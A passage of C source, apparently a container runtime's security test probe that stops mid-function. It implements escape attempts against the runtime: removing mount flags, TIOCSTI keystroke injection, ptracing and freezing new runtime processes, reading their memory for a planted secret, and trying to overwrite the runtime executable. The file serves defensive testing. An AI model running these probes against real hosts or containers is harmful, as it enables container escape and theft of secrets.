// SPDX-License-Identifier: Apache-2.0
// What the security scripts do to a runtime and no shell can: one attack a word, on the host or, as
// it is linked statically, in the container.
//   clear PATH...    tries to take ro, nosuid, nodev and noexec from each mount that has them, by
//   every
//                    call there is; prints "cleared FLAG PATH CALL" for what succeeded
//   cwd              prints the working directory as the kernel names it
//   exchange A B     exchanges two names of a directory again and again, until it is killed
//   opened PATH      prints every file of PATH's filesystem that is opened from now on, until
//   killed listen           prints "ignored" and "blocked", the signals this process cannot hear
//   deaf COMMAND...  runs it with signals ignored and blocked
//   reach            watches for processes that are new here, and prints of those whose executable
//   is
//                    not busybox "traced NAME" if they can be traced, of all "reached FILE" for
//                    each of their descriptors beyond the standard ones; until /ended is there
//   hold             keeps the executable of the first process that has another than busybox,
//   prints
//                    "held", and once /ended is there "written" if it can be written to
//   type             puts a character into the input of the terminal that the streams are, and of
//   its own;
//                    says "no terminal" only if the kernel does, and whether it leads a session and
//                    a group
//   visible KEY=VALUE...  meets each process that comes into its pid namespace and tries, until
//   that has
//                    executed its program, all that a process with CAP_SYS_PTRACE can; once /ended
//                    is there it prints as JSON how many processes had what. secret=FILE and
//                    path=FILE have what no memory may have, token=TEXT is in the cgroups' names,
//                    bounding=HEX filter=0|1 no-new-privileges=0|1 say what they may (as we: the
//                    default); workers=N, step=PERCENT that are traced from call to call
//   hinder HOW FILE     does so to each process that comes into its pid namespace and has not
//   executed its
//                    program, until /ended is there: kill, stop (and let go), freeze and trace
//                    (says "held PID" and what `visible` finds); processes, memory (leaves it none:
//                    "full"); words, theft, end (takes its sockets and pipes, and writes what it
//                    might, reads what it should, shuts them). Then it says whether its own other
//                    process still lives
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

// Not <sys/mount.h>, which goes with <linux/mount.h> only in newer C libraries.
int mount(const char*, const char*, const char*, unsigned long, const void*);

static int fail(const char* what) {
  perror(what);
  return 1;
}

struct flag {
  const char* name;
  unsigned long bit;  // of mount(2) and statvfs(3), which agree on these
  unsigned long attribute;
};

static const struct flag flags[] = {{"ro", MS_RDONLY, MOUNT_ATTR_RDONLY},
                                    {"nosuid", MS_NOSUID, MOUNT_ATTR_NOSUID},
                                    {"nodev", MS_NODEV, MOUNT_ATTR_NODEV},
                                    {"noexec", MS_NOEXEC, MOUNT_ATTR_NOEXEC}};

static unsigned long flags_at(int fd) {
  struct statvfs status;
  return fstatvfs(fd, &status) == 0 ? status.f_flag : ~0UL;
}

static void set_attributes(int fd, const char* path, unsigned how, unsigned long cleared) {
  struct mount_attr attributes = {.attr_clr = cleared};
  syscall(SYS_mount_setattr, fd, path, how, &attributes, sizeof(attributes));
}

static void remount(const char* path, unsigned long bit) {
  int fd = open(path, O_PATH);
  unsigned long kept = flags_at(fd) & (MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC) & ~bit;
  close(fd);
  mount(NULL, path, NULL, MS_REMOUNT | MS_BIND | kept, NULL);
}

// Each gives a descriptor of the mount, or of the copy of it, that should have lost the flag.
static int by_remount(const char* path, const struct flag* flag) {
  remount(path, flag->bit);
  return open(path, O_PATH);
}

static int by_attribute(const char* path, const struct flag* flag) {
  set_attributes(AT_FDCWD, path, 0, flag->attribute);
  return open(path, O_PATH);
}

static int by_recursion(const char* path, const struct flag* flag) {
  set_attributes(AT_FDCWD, "/", AT_RECURSIVE, flag->attribute);
  return open(path, O_PATH);
}

static int by_bind(const char* path, const struct flag* flag) {
  if (mount(path, path, NULL, MS_BIND | MS_REC, NULL) != 0) return -1;
  remount(path, flag->bit);
  return open(path, O_PATH);
}

static int by_copy(const char* path, const struct flag* flag) {
  int tree = syscall(SYS_open_tree, AT_FDCWD, path, OPEN_TREE_CLONE | AT_RECURSIVE);
  set_attributes(tree, "", AT_EMPTY_PATH, flag->attribute);
  return tree;
}

static const struct {
  const char* name;
  int (*try)(const char* path, const struct flag* flag);
} calls[] = {{"remount", by_remount},
             {"mount_setattr", by_attribute},
             {"recursive-mount_setattr", by_recursion},
             {"bind-and-remount", by_bind},
             {"open_tree", by_copy}};

// In a mount namespace of its own each, so that no attempt does the next one's work.
static void clear(const char* path) {
  for (size_t f = 0; f < sizeof(flags) / sizeof(*flags); f++) {
    int fd = open(path, O_PATH);
    int has = fd >= 0 && (flags_at(fd) & flags[f].bit) != 0;
    close(fd);
    for (size_t c = 0; has && c < sizeof(calls) / sizeof(*calls); c++) {
      if (fork() == 0) {
        if (unshare(CLONE_NEWNS) != 0) _exit(fail("unshare"));
        fd = calls[c].try(path, &flags[f]);
        if (fd >= 0 && (flags_at(fd) & flags[f].bit) == 0)
          dprintf(1, "cleared %s %s %s\n", flags[f].name, path, calls[c].name);
        _exit(0);
      }
      wait(NULL);
    }
  }
}

static int cwd(void) {
  char where[4096];
  // glibc's function hides what lies outside of the root.
  if (syscall(SYS_getcwd, where, sizeof(where)) < 0) return fail("getcwd");
  return puts(where) < 0;
}

static int exchange(const char* a, const char* b) {
  for (;;)
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) != 0)
      return fail("renameat2");
}

static int opened(const char* path) {
  int watch = fanotify_init(FAN_CLASS_NOTIF, O_RDONLY);
  if (watch < 0) return fail("fanotify_init");
  if (fanotify_mark(watch, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN, AT_FDCWD, path) != 0)
    return fail("fanotify_mark");
  puts("watching");
  fflush(stdout);
  char buffer[4096] __attribute__((aligned(8)));
  for (;;) {
    ssize_t length = read(watch, buffer, sizeof(buffer));
    if (length <= 0) return fail("read");
    struct fanotify_event_metadata* event = (struct fanotify_event_metadata*)buffer;
    for (; FAN_EVENT_OK(event, length); event = FAN_EVENT_NEXT(event, length)) {
      char name[64], target[4096];
      snprintf(name, sizeof(name), "/proc/self/fd/%d", event->fd);
      ssize_t size = readlink(name, target, sizeof(target));
      if (size > 0) printf("%.*s\n", (int)size, target);
      close(event->fd);
    }
    fflush(stdout);
  }
}

static int listen_to_signals(void) {
  sigset_t blocked;
  sigprocmask(SIG_SETMASK, NULL, &blocked);
  for (int number = 1; number < NSIG; number++) {
    struct sigaction action;
    if (sigaction(number, NULL, &action) == 0 && action.sa_handler == SIG_IGN)
      printf("ignored %d\n", number);
    if (sigismember(&blocked, number) == 1) printf("blocked %d\n", number);
  }
  return 0;
}

static int deaf(char** command) {
  sigset_t blocked;
  sigemptyset(&blocked);
  for (int number = 1; number < NSIG; number++) {
    // A child's end is what a runtime may need to hear of.
    if (number == SIGCHLD) continue;
    signal(number, SIG_IGN);
    sigaddset(&blocked, number);
  }
  sigprocmask(SIG_SETMASK, &blocked, NULL);
  execvp(command[0], command);
  return fail(command[0]);
}

static int type(void) {
  char key = 'x';
  for (int fd = 0; fd <= 2; fd++)
    if (ioctl(fd, TIOCSTI, &key) == 0) puts("typed");
  int terminal = open("/dev/tty", O_RDWR);
  if (terminal < 0 && errno != ENXIO)
    return fail("/dev/tty");  // absent or closed to us: says nothing
  puts(terminal < 0 ? "no terminal" : "a terminal");
  if (terminal >= 0 && ioctl(terminal, TIOCSTI, &key) == 0) puts("typed");
  puts(getsid(0) == getpid() && getpgrp() == getpid() ? "leads" : "led by another");
  return 0;
}

static int is_over(void) {
  return access("/ended", F_OK) == 0;
}

// Whether `path` is neither busybox nor this program: the executable of somebody who has come in.
static int is_foreign(const char* path) {
  struct stat file, busybox, self;
  return stat(path, &file) == 0 && stat("/bin/busybox", &busybox) == 0 &&
         stat("/proc/self/exe", &self) == 0 &&
         (file.st_ino != busybox.st_ino || file.st_dev != busybox.st_dev) &&
         (file.st_ino != self.st_ino || file.st_dev != self.st_dev);
}

static void reach_descriptors(int pid) {
  char path[64], target[4096];
  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
  DIR* directory = opendir(path);
  if (directory == NULL) return;
  for (struct dirent* entry; (entry = readdir(directory)) != NULL;) {
    if (atoi(entry->d_name) <= 2) continue;
    ssize_t size = readlinkat(dirfd(directory), entry->d_name, target, sizeof(target));
    if (size > 0) printf("reached %.*s\n", (int)size, target);
  }
  closedir(directory);
}

static void trace(int pid) {
  char path[64];
  int status;
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return;
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  if (is_foreign(path)) printf("traced %d\n", pid);
  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  if (waitpid(pid, &status, __WALL) == pid && !WIFEXITED(status) && !WIFSIGNALED(status))
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

// Calls `look` with each process that is not init or we, again and again.
static void watch_processes(void (*look)(int pid)) {
  puts("watching");
  fflush(stdout);
  while (!is_over()) {
    DIR* proc = opendir("/proc");
    if (proc == NULL) return;
    for (struct dirent* entry; (entry = readdir(proc)) != NULL;) {
      int pid = atoi(entry->d_name);
      if (pid > 1 && pid != getpid()) look(pid);
    }
    closedir(proc);
    fflush(stdout);
  }
}

static void look_and_reach(int pid) {
  reach_descriptors(pid);
  trace(pid);
}

static int held = -1;

static void look_and_hold(int pid) {
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  if (held >= 0 || !is_foreign(path)) return;
  int fd = open(path, O_RDONLY);
  snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
  // It may have become busybox in between.
  if (fd >= 0 && is_foreign(path)) {
    held = fd;
    puts("held");
  } else {
    close(fd);
  }
}

static int hold(void) {
  watch_processes(look_and_hold);
  char path[64];
  snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
  int fd = held < 0 ? -1 : open(path, O_WRONLY | O_APPEND);
  if (fd >= 0 && write(fd, "x", 1) == 1) puts("written");
  puts("end");
  return 0;
}

// The pid that was born last in this pid namespace.
static int last_pid(void) {
  static int fd = -1;
  char text[128];
  if (fd < 0) fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
  ssize_t size = pread(fd, text, sizeof(text) - 1, 0);
  if (size <= 0) return 0;
  text[size] = '\0';
  return atoi(strrchr(text, ' ') + 1);
}

static int lives(int pid) {
  return kill(pid, 0) == 0 || errno == EPERM;
}

// Calls `meet` with each process that is born here from now on, as early as can be, and `meanwhile`
// between: the kernel gives pids in order, so it asks again and again for those that are to come.
static void meet_newborn(void (*meet)(int pid), void (*meanwhile)(void)) {
  enum { window = 3 };
  int next = last_pid() + 1;
  for (unsigned turn = 0;; turn++) {
    for (int pid = next; pid < next + window; pid++)
      if (lives(pid)) {
        meet(pid);
        next = pid + 1;
        break;
      }
    if (meanwhile != NULL) meanwhile();
    if (turn % 32 != 0) continue;
    if (is_over()) return;
    // Those of us who were late go on where the others are; so do all when pids begin anew.
    int last = last_pid();
    if (last >= next + window || last < next - 1) next = last;
  }
}

// What the workers of `visible` have found, by pid.
enum {
  seen = 1 << 0,        // it was there
  early = 1 << 1,       // it was there and had not executed its program
  roots = 1 << 2,       // its root is in reach and no container's
  empty = 1 << 3,       // its root is in reach and has nothing
  cwds = 1 << 4,        // its working directory is no container's
  fds = 1 << 5,         // so is what a descriptor of its is open on
  sockets = 1 << 6,     // it has a socket that can be taken
  memfds = 1 << 7,      // it has a memfd that can be taken
  memory = 1 << 8,      // its memory has the secret of the runtime's environment
  paths = 1 << 9,       // its memory has that path of the host
  seized = 1 << 10,     // it can be traced
  stronger = 1 << 11,   // it can be traced, and may what nobody here may
  exes = 1 << 12,       // its executable is in reach, and nothing of a container's
  claimed = 1 << 13,    // somebody has decided whether it is traced
  terminals = 1 << 14,  // it has the terminal of a session outside
};
static const struct {
  const char* name;
  unsigned bit;
} findings[] = {{"seen", seen},       {"early", early},        {"roots", roots},
                {"empty", empty},     {"cwds", cwds},          {"fds", fds},
                {"sockets", sockets}, {"memfds", memfds},      {"memory", memory},
                {"paths", paths},     {"seized", seized},      {"stronger", stronger},
                {"exes", exes},       {"terminals", terminals}};

enum { most_pids = 1 << 22, most_mounts = 256 };

// Shared by the workers.
static struct {
  unsigned found[most_pids];
  unsigned examples[32];
} * shared;

struct mounts {
  size_t count;
  unsigned long long ids[most_mounts];
};

// What the test tells of the container.
static struct {
  unsigned long long bounding;
  int filtered, no_new_privileges;
  const char *secret, *path, *token;
  int workers, step;
} given = {.filtered = -1, .no_new_privileges = -1, .workers = 2, .step = 50};

static struct mounts own_mounts;
static struct stat own_root;
static char own_cgroups[4096];

static void found(int pid, unsigned what, const char* format, ...) {
  unsigned before = __atomic_fetch_or(&shared->found[pid], what, __ATOMIC_RELAXED);
  if ((before & what) != 0 || format == NULL) return;
  size_t index = 0;
  while (findings[index].bit != what) index++;
  if (__atomic_fetch_add(&shared->examples[index], 1, __ATOMIC_RELAXED) >= 3) return;
  char text[1024];
  va_list values;
  va_start(values, format);
  vsnprintf(text, sizeof(text), format, values);
  va_end(values);
  dprintf(1, "example %s %d %s\n", findings[index].name, pid, text);
}
static int is_found(int pid, unsigned what) {
  return (__atomic_load_n(&shared->found[pid], __ATOMIC_RELAXED) & what) != 0;
}

static ssize_t read_text(const char* path, char* text, size_t size) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  size_t length = 0;
  for (ssize_t got; length < size - 1 && (got = read(fd, text + length, size - 1 - length)) > 0;)
    length += got;
  close(fd);
  text[length] = '\0';
  return length;
}

static void read_mounts(const char* who, struct mounts* mounts) {
  static char text[1 << 16];
  char path[64];
  snprintf(path, sizeof(path), "/proc/%s/mountinfo", who);
  mounts->count = 0;
  if (read_text(path, text, sizeof(text)) < 0) return;
  for (char* line = text; *line != '\0' && mounts->count < most_mounts;) {
    mounts->ids[mounts->count++] = strtoull(line, NULL, 10);
    char* end = strchr(line, '\n');
    if (end == NULL) return;
    line = end + 1;
  }
}

static int has_mount(const struct mounts* mounts, unsigned long long id) {
  for (size_t i = 0; i < mounts->count; i++)
    if (mounts->ids[i] == id) return 1;
  return 0;
}

// A process while it is looked at.
struct target {
  int pid;
  struct stat root;
  int root_known, contained;
  unsigned looks;
  // Those of its mount namespace, if its root is a container's.
  struct mounts mounts;
  int mounts_known;
};

static int open_of(int pid, const char* what) {
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
  return open(path, O_PATH | O_CLOEXEC);
}

static int is_empty(int directory) {
  int fd = openat(directory, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  DIR* entries = fd < 0 ? NULL : fdopendir(fd);
  if (entries == NULL) return 0;
  int count = 0;
  while (count < 3 && readdir(entries) != NULL) count++;
  closedir(entries);
  return count < 3;
}

static void look_at_root(struct target* target) {
  target->root_known = target->contained = 0;
  int fd = open_of(target->pid, "root");
  if (fd < 0) return;
  if (fstat(fd, &target->root) == 0) {
    target->root_known = 1;
    target->contained =
        (target->root.st_dev == own_root.st_dev && target->root.st_ino == own_root.st_ino) ||
        faccessat(fd, "of-a-container", F_OK, 0) == 0;
    if (target->contained) {
    } else if (is_empty(fd)) {
      found(target->pid, empty, "root");
    } else {
      // Whose proof is a file that the test made on the host.
      int reached = given.path != NULL && faccessat(fd, given.path + 1, F_OK, 0) == 0;
      found(target->pid, roots, "root is %llx:%llu%s", (unsigned long long)target->root.st_dev,
            (unsigned long long)target->root.st_ino, reached ? ", the host's" : "");
    }
  }
  close(fd);
}

static int is_of_a_container(struct target* target, int fd) {
  struct statx status;
  if (syscall(SYS_statx, fd, "", AT_EMPTY_PATH, STATX_BASIC_STATS | STATX_MNT_ID, &status) != 0)
    return 1;
  if (has_mount(&own_mounts, status.stx_mnt_id)) return 1;
  // It may have executed its program since its root was out of reach.
  if (!target->root_known) look_at_root(target);
  if (!target->root_known) return 0;
  struct stat file;
  // The whole of an empty root is itself.
  if (fstat(fd, &file) == 0 && file.st_dev == target->root.st_dev &&
      file.st_ino == target->root.st_ino)
    return target->contained || is_found(target->pid, empty);
  if (!target->contained) return 0;
  if (!target->mounts_known) {
    char who[16];
    snprintf(who, sizeof(who), "%d", target->pid);
    read_mounts(who, &target->mounts);
    target->mounts_known = 1;
  }
  return has_mount(&target->mounts, status.stx_mnt_id);
}

static int is_own_namespace(const struct target* target, int fd) {
  static const char* const names[] = {"cgroup",           "ipc",  "mnt",  "net", "pid",
                                      "pid_for_children", "time", "user", "uts"};
  struct stat wanted, file;
  char path[64];
  if (fstat(fd, &wanted) != 0) return 1;
  for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
    snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
    if (stat(path, &file) == 0 && file.st_ino == wanted.st_ino) return 1;
    snprintf(path, sizeof(path), "/proc/%d/ns/%s", target->pid, names[i]);
    if (target->contained && stat(path, &file) == 0 && file.st_ino == wanted.st_ino) return 1;
  }
  return 0;
}

// Whether the pidfd is of a process that is in sight here.
static int is_of_a_visible_process(const struct target* target, const char* number) {
  char path[64], text[1024];
  snprintf(path, sizeof(path), "/proc/%d/fdinfo/%s", target->pid, number);
  if (read_text(path, text, sizeof(text)) < 0) return 1;
  const char* line = strstr(text, "\nPid:");
  // One that is gone (-1) is nobody.
  return line != NULL && atoi(line + 5) != 0;
}

// Which finding an open file is; 0 for none.
static unsigned judge_file(struct target* target, int fd, const char* number, const char* name) {
  struct statfs status;
  if (fstatfs(fd, &status) != 0) return 0;
  switch ((unsigned)status.f_type) {
    case 0x50495045:
      return 0;  // pipefs
    case 0x534f434b:
      return sockets;
    case 0x50494446:
      return is_of_a_visible_process(target, number) ? 0 : fds;  // pidfs
    case 0x6e736673:
      return is_own_namespace(target, fd) ? 0 : fds;  // nsfs
    case 0x09041934:                                  // anon_inodefs
      if (strstr(name, "pidfd") != NULL) return is_of_a_visible_process(target, number) ? 0 : fds;
      // Who opens a proc in here has its context and an empty root: to mount it takes
      // CAP_SYS_ADMIN.
      return strstr(name, "fscontext") != NULL && !is_found(target->pid, empty) ? fds : 0;
  }
  if (strncmp(name, "/memfd:", 7) == 0) return memfds;
  // What init waits with for `start`: behind a read-only mount nobody changes it, and to speak in
  // the name of `start` is to speak to a process that one can trace anyway.
  struct stat file;
  if (fstat(fd, &file) == 0 && S_ISFIFO(file.st_mode) && (status.f_flags & ST_RDONLY) != 0)
    return 0;
  return is_of_a_container(target, fd) ? 0 : fds;
}

static void look_at_descriptors(struct target* target) {
  char path[64], name[4096], link[64];
  snprintf(path, sizeof(path), "/proc/%d/fd", target->pid);
  int directory = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (directory < 0) return;
  // Not asking which there are is quicker than to read the directory of one who is about to leave.
  for (int number = 0; number < 48; number++) {
    char digits[8];
    snprintf(digits, sizeof(digits), "%d", number);
    int fd = openat(directory, digits, O_PATH | O_CLOEXEC);
    if (fd < 0) continue;
    snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
    ssize_t size = readlink(link, name, sizeof(name) - 1);
    name[size < 0 ? 0 : size] = '\0';
    unsigned what = judge_file(target, fd, digits, name);
    if (what != 0) found(target->pid, what, "%d %s", number, name);
    close(fd);
  }
  close(directory);
}

static void look_at_memory(struct target* target) {
  static char text[1 << 16], bytes[1 << 20];
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/mem", target->pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  snprintf(path, sizeof(path), "/proc/%d/maps", target->pid);
  ssize_t length = read_text(path, text, sizeof(text));
  size_t budget = 32 << 20;
  // From its end, where the stack is, and on it what a program was given.
  for (char* end = text + (length < 0 ? 0 : length); end > text && budget > 0;) {
    *--end = '\0';
    char* line = memrchr(text, '\n', end - text);
    line = line == NULL ? text : line + 1;
    end = line;
    unsigned long long from, to;
    char rights[8] = "";
    if (sscanf(line, "%llx-%llx %7s", &from, &to, rights) != 3 || strncmp(rights, "rw", 2) != 0)
      continue;
    if (to - from > (8ULL << 20)) continue;
    for (; from < to; from += sizeof(bytes)) {
      size_t size = to - from < sizeof(bytes) ? to - from : sizeof(bytes);
      ssize_t got = pread(fd, bytes, size, (off_t)from);
      if (got <= 0) break;
      budget -= budget < (size_t)got ? budget : (size_t)got;
      char* at = memmem(bytes, got, given.secret, strlen(given.secret));
      if (at != NULL) found(target->pid, memory, "%s", line);
      if (given.path != NULL && memmem(bytes, got, given.path, strlen(given.path)) != NULL)
        found(target->pid, paths, "%s", line);
    }
  }
  close(fd);
}

static unsigned long long field(const char* text, const char* name, int base) {
  const char* line = strstr(text, name);
  return line == NULL ? 0 : strtoull(line + strlen(name), NULL, base);
}

// What the container has, unless the test says otherwise of those who come.
static void know_own_powers(void) {
  char text[4096];
  if (read_text("/proc/self/status", text, sizeof(text)) <= 0) return;
  if (given.bounding == 0) given.bounding = field(text, "\nCapBnd:", 16);
  if (given.filtered < 0) given.filtered = field(text, "\nSeccomp:", 10) != 0;
  if (given.no_new_privileges < 0) given.no_new_privileges = field(text, "\nNoNewPrivs:", 10) != 0;
}

static void look_at_powers(int pid) {
  static const char* const sets[] = {
      "\nCapInh:", "\nCapPrm:", "\nCapEff:", "\nCapBnd:", "\nCapAmb:"};
  char path[64], text[4096];
  snprintf(path, sizeof(path), "/proc/%d/status", pid);
  if (read_text(path, text, sizeof(text)) <= 0) return;
  for (size_t i = 0; i < sizeof(sets) / sizeof(*sets); i++) {
    unsigned long long beyond = field(text, sets[i], 16) & ~given.bounding;
    if (beyond != 0) found(pid, stronger, "%s beyond by %llx", sets[i] + 1, beyond);
  }
  if (given.filtered && field(text, "\nSeccomp:", 10) == 0) found(pid, stronger, "no filter");
  if (given.no_new_privileges && field(text, "\nNoNewPrivs:", 10) == 0)
    found(pid, stronger, "no no_new_privs");
  snprintf(path, sizeof(path), "/proc/%d/cgroup", pid);
  if (given.token == NULL || read_text(path, text, sizeof(text)) <= 0) return;
  // Where the container has a cgroup of its own, the process is in one of the test's containers.
  char *rest = NULL, *line = strtok_r(text, "\n", &rest);
  for (; line != NULL; line = strtok_r(NULL, "\n", &rest)) {
    size_t head = strcspn(line, "/");
    char* own = own_cgroups;
    while (own != NULL && strncmp(own, line, head) != 0) {
      own = strchr(own, '\n');
      if (own != NULL) own++;
    }
    if (own == NULL) continue;
    size_t length = strcspn(own, "\n");
    if (memmem(own, length, given.token, strlen(given.token)) != NULL &&
        strstr(line, given.token) == NULL)
      found(pid, stronger, "in cgroup %s", line);
  }
}

static int has_executed(struct target* target) {
  char path[64], name[4096];
  snprintf(path, sizeof(path), "/proc/%d/exe", target->pid);
  ssize_t size = readlink(path, name, sizeof(name) - 1);
  if (size < 0) return errno == ENOENT || errno == ESRCH;
  name[size] = '\0';
  const char* base = strrchr(name, '/');
  if (base != NULL && (strcmp(base, "/busybox") == 0 || strcmp(base, "/attack") == 0)) return 1;
  if (strstr(name, "/memfd:") == NULL) found(target->pid, exes, "%s", name);
  return 0;
}

// Whose session's leader is not in sight.
static int has_terminal_of_outside(int pid) {
  char path[64], text[1024];
  int session = 0, terminal = 0;
  snprintf(path, sizeof(path), "/proc/%d/stat", pid);
  if (read_text(path, text, sizeof(text)) <= 0) return 0;
  const char* rest = strrchr(text, ')');
  return rest != NULL && sscanf(rest, ") %*c %*d %*d %d %d", &session, &terminal) == 2 &&
         session == 0 && terminal != 0;
}

// All looks but that by tracing. False once it has executed its program, or is gone.
static int look_at(struct target* target) {
  target->mounts_known = 0;
  look_at_root(target);
  int fd = open_of(target->pid, "cwd");
  if (fd >= 0) {
    if (!is_of_a_container(target, fd)) {
      char link[64], name[4096];
      snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
      ssize_t size = readlink(link, name, sizeof(name));
      found(target->pid, cwds, "%.*s", (int)(size < 0 ? 0 : size), name);
    }
    close(fd);
  }
  look_at_descriptors(target);
  // Which takes longer than all the rest.
  if (!is_found(target->pid, memory) && target->looks++ % 4 == 0) look_at_memory(target);
  if (has_executed(target)) return 0;
  found(target->pid, early, NULL);
  if (has_terminal_of_outside(target->pid)) found(target->pid, terminals, "terminal");
  return lives(target->pid);
}

// Goes with it from system call to system call, and looks at each, until it has executed its
// program.
static void step_through(struct target* target) {
  int status, pid = target->pid;
  if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEEXEC | PTRACE_O_TRACESYSGOOD) != 0) return;
  if (!has_executed(target)) {
    found(pid, seized, "seized");
    look_at_powers(pid);
  }
  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  // A runtime that goes round and round is let go.
  for (int stops = 0; waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status); stops++) {
    int signal = 0, event = status >> 16;
    if (event == PTRACE_EVENT_EXEC || has_executed(target) || is_over() || stops > 2000) {
      ptrace(PTRACE_DETACH, pid, 0, 0);
      return;
    }
    if (event == PTRACE_EVENT_STOP && WSTOPSIG(status) != SIGTRAP) {
      ptrace(PTRACE_LISTEN, pid, 0, 0);
      continue;
    }
    if (event == 0 && WSTOPSIG(status) != (SIGTRAP | 0x80)) signal = WSTOPSIG(status);
    look_at_powers(pid);
    look_at(target);
    ptrace(PTRACE_SYSCALL, pid, 0, signal);
  }
}

// Those that a worker stays with until they have executed their programs.
static struct {
  size_t count;
  struct target each[16];
} kept;

static void look_at_the_kept(void) {
  for (size_t i = 0; i < kept.count; i++)
    if (!look_at(&kept.each[i])) kept.each[i--] = kept.each[--kept.count];
}

static void meet_visible(int pid) {
  // No process but a thread of one.
  int pidfd = syscall(SYS_pidfd_open, pid, 0);
  if (pidfd < 0 || pid >= most_pids) return;
  close(pidfd);
  static struct target target;
  target.pid = pid;
  target.looks = 0;
  found(pid, seen, NULL);
  int goes_on = look_at(&target);
  // One of us stays with it, the others are there for those who are born meanwhile.
  if ((__atomic_fetch_or(&shared->found[pid], claimed, __ATOMIC_RELAXED) & claimed) != 0) return;
  if (rand() % 100 < given.step)
    step_through(&target);
  else if (goes_on && kept.count < sizeof(kept.each) / sizeof(*kept.each))
    kept.each[kept.count++] = target;
}

static const char* text_of_file(const char* name) {
  static char texts[2][4096];
  static int used = 0;
  if (used == 2 || read_text(name, texts[used], sizeof(texts[used])) <= 0) return NULL;
  return texts[used++];
}

static int prepare_findings(void) {
  shared = mmap(NULL, sizeof(*shared), PROT_READ | PROT_WRITE,
                MAP_SHARED | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  if (shared == MAP_FAILED || stat("/", &own_root) != 0) return 0;
  know_own_powers();
  read_mounts("self", &own_mounts);
  read_text("/proc/self/cgroup", own_cgroups, sizeof(own_cgroups));
  return 1;
}

static int visible(char** words) {
  for (; *words != NULL; words++) {
    char* value = strchr(*words, '=');
    if (value == NULL) return 1;
    *value++ = '\0';
    if (strcmp(*words, "bounding") == 0) given.bounding = strtoull(value, NULL, 16);
    if (strcmp(*words, "filter") == 0) given.filtered = atoi(value);
    if (strcmp(*words, "no-new-privileges") == 0) given.no_new_privileges = atoi(value);
    // By a file each: the runtime knows these words, they are its configuration's.
    if (strcmp(*words, "secret") == 0) given.secret = text_of_file(value);
    if (strcmp(*words, "path") == 0) given.path = text_of_file(value);
    if (strcmp(*words, "token") == 0) given.token = value;
    if (strcmp(*words, "workers") == 0) given.workers = atoi(value);
    if (strcmp(*words, "step") == 0) given.step = atoi(value);
  }
  if (given.secret == NULL) return 1;
  if (!prepare_findings()) return fail("mmap");
  for (int i = 0; i < given.workers; i++)
    if (fork() == 0) {
      srand(getpid());
      meet_newborn(meet_visible, look_at_the_kept);
      _exit(0);
    }
  int first = last_pid() + 1;
  puts("watching");
  fflush(stdout);
  // The workers and who is left to us, as the first process here.
  while (!is_over()) usleep(10000);
  while (wait(NULL) > 0) continue;
  int last = last_pid();
  printf("{\"appeared\":%d", last - first + 1);
  for (size_t i = 0; i < sizeof(findings) / sizeof(*findings); i++) {
    int count = 0;
    for (int pid = first; pid <= last && pid < most_pids; pid++)
      if ((shared->found[pid] & findings[i].bit) != 0) count++;
    printf(",\"%s\":%d", findings[i].name, count);
  }
  puts("}");
  return 0;
}

static void spin(int microseconds) {
  struct timespec from, now;
  clock_gettime(CLOCK_MONOTONIC, &from);
  do clock_gettime(CLOCK_MONOTONIC, &now);
  while ((now.tv_sec - from.tv_sec) * 1000000 + (now.tv_nsec - from.tv_nsec) / 1000 < microseconds);
}

static void kill_newborn(int pid) {
  spin(rand() % 4000);
  kill(pid, SIGKILL);
}

static void stop_newborn(int pid) {
  spin(rand() % 2000);
  kill(pid, SIGSTOP);
  spin(rand() % 2000);
  kill(pid, SIGCONT);
}

// Says "held" of one that has not executed its program, once all that can be seen of it is said,
// and keeps it, dead or alive, until /release is there.
static void say_held(struct target* target) {
  look_at(target);
  look_at_powers(target->pid);
  dprintf(1, "held %d\n", target->pid);
  while (!is_over() && unlink("/release") != 0) usleep(1000);
}

static void freeze_newborn(int pid) {
  static struct target target;
  target = (struct target){.pid = pid};
  spin(rand() % 1500);
  kill(pid, SIGSTOP);
  // It may still come to the end of an execve(2).
  char path[64], text[512] = "";
  snprintf(path, sizeof(path), "/proc/%d/stat", pid);
  while (read_text(path, text, sizeof(text)) > 0 && strstr(text, ") T ") == NULL &&
         strstr(text, ") Z ") == NULL)
    continue;
  if (!has_executed(&target)) say_held(&target);
  kill(pid, SIGCONT);
}

// After a few of its system calls.
static void trace_newborn(int pid) {
  static struct target target;
  int status, calls = rand() % 5;
  target = (struct target){.pid = pid};
